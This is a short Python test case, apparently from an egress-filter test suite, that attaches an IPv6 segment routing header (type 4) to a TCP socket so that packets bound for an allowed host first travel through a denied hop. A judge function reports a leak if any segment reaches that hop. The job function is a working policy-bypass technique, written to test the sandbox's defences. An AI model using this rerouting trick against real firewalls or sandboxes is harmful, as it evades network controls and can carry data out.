"""IPv6 segment routing header (type 4) on a TCP socket before connect() to an allowed host: the SYN and data leave for the denied first segment; a relay there could carry on the connection."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": ["[%s]:443" % A6]}
FEATURES = ["srh"]
AS = ("nobody",)
SINKS_OK = [A4, A6]  # the allowed host may get it: what matters is where else it went
RECORD = [(("egress.sockopt", "egress.packet"), {"egress.decision": "deny",
                                                  "egress.reason": "reroute"})]


def judge(ev):
    """No SYN towards the denied hop may cross (the token cannot: no handshake there)."""
    bad = [i for _t, ff, i, _f in ev.parsed() if ff and i["proto"] == 6 and i["dst"] == D6]
    return ["LEAK: %d TCP segment(s) left for the denied hop %s (routing header type %s)" % (
        len(bad), D6, bad[0]["rthdr"])] if bad else []


def job(token, args):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(2)
    hdr = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + \
        socket.inet_pton(socket.AF_INET6, A6) + socket.inet_pton(socket.AF_INET6, D6)
    attempt("setsockopt IPV6_RTHDR type 4", s.setsockopt, socket.IPPROTO_IPV6, IPV6_RTHDR, hdr)
    attempt("connect %s:443" % A6, s.connect, (A6, 443))
    attempt("send", s.send, payload(token, "srh tcp"))


if __name__ == "__main__":
    main(globals())
